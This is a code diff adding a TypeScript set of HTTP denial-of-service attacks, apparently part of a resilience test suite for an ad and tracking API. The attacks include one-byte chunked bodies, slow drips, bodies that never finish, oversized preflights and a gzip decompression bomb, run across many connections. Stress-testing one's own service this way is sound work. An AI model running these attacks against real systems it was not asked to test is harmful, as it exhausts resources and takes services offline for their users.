@@ -1,0 +1,73 @@
+import { gzipSync } from 'node:zlib';
+import { type Attack, besiege, drip, inSingleBytes, json, keyed, pathOf, pour, requestOf } from '../attack.js';
+
+const chunked = { 'transfer-encoding': 'chunked' };
+
+/** Bodies that cost more than their bytes, and bodies that nobody wants. */
+export const bodies: Attack[] = [
+  {
+    name: 'ad requests in chunks of one byte',
+    run: (target, seconds) =>
+      besiege(target, { seconds, connections: 60 }, (socket) => {
+        socket.write(requestOf('POST /api/rtb/ad', { ...json, ...chunked }, '', null));
+        pour(socket, inSingleBytes('x'.repeat(8_192)));
+      }),
+  },
+  {
+    name: 'batches in chunks of one byte',
+    run: (target, seconds) =>
+      besiege(target, { seconds, connections: 30 }, (socket) => {
+        socket.write(requestOf(pathOf(target, 'trackBatch'), { ...keyed(target), ...chunked }, '', null));
+        pour(socket, inSingleBytes('x'.repeat(8_192)));
+      }),
+  },
+  {
+    name: 'preflights with bodies that never end',
+    run: (target, seconds) =>
+      besiege(target, { seconds, connections: 900 }, (socket) => {
+        socket.write(
+          requestOf('OPTIONS /api/x', { ...json, 'content-length': '1000000' }, Buffer.alloc(500_000), null),
+        );
+        socket.resume();
+      }),
+  },
+  {
+    name: 'bodies without end for paths and methods that do not exist',
+    run: (target, seconds) =>
+      besiege(target, { seconds, connections: 100 }, (socket, index) => {
+        const line = ['POST /nothing', 'PUT /api/rtb/ad', 'GET /health/ready', 'DELETE /docs'][index % 4] ?? '';
+        socket.write(requestOf(line, { ...json, ...chunked }, '', null));
+        socket.resume();
+        pour(socket, Buffer.from(`8000\r\n${'x'.repeat(0x8000)}\r\n`));
+      }),
+  },
+  {
+    name: 'small bodies with a key that come a byte a second',
+    run: (target, seconds) =>
+      besiege(target, { seconds, connections: 4_500 }, (socket) => {
+        socket.write(requestOf(pathOf(target, 'track'), keyed(target), '{"userId"', 8_000));
+        socket.resume();
+        drip(socket, Buffer.alloc(100, ' '), 1_000);
+      }),
+  },
+  {
+    name: 'batches with a key of which the last byte does not come',
+    run: (target, seconds) =>
+      besiege(target, { seconds, connections: 150 }, (socket) => {
+        socket.write(requestOf(pathOf(target, 'trackBatch'), keyed(target), Buffer.alloc(800_000, ' '), 800_001));
+        socket.resume();
+      }),
+  },
+  {
+    name: 'bombs in gzip, with a key and without',
+    run: (target, seconds) => {
+      const bomb = gzipSync(Buffer.alloc(60_000_000, ' '));
+      const encoding = { 'content-encoding': 'gzip' };
+      return besiege(target, { seconds, connections: 32 }, (socket, index) => {
+        const line = index % 2 === 0 ? pathOf(target, 'trackBatch') : 'POST /api/rtb/ad';
+        socket.write(requestOf(line, { ...keyed(target), ...encoding }, bomb));
+        socket.resume();
+      });
+    },
+  },
+];
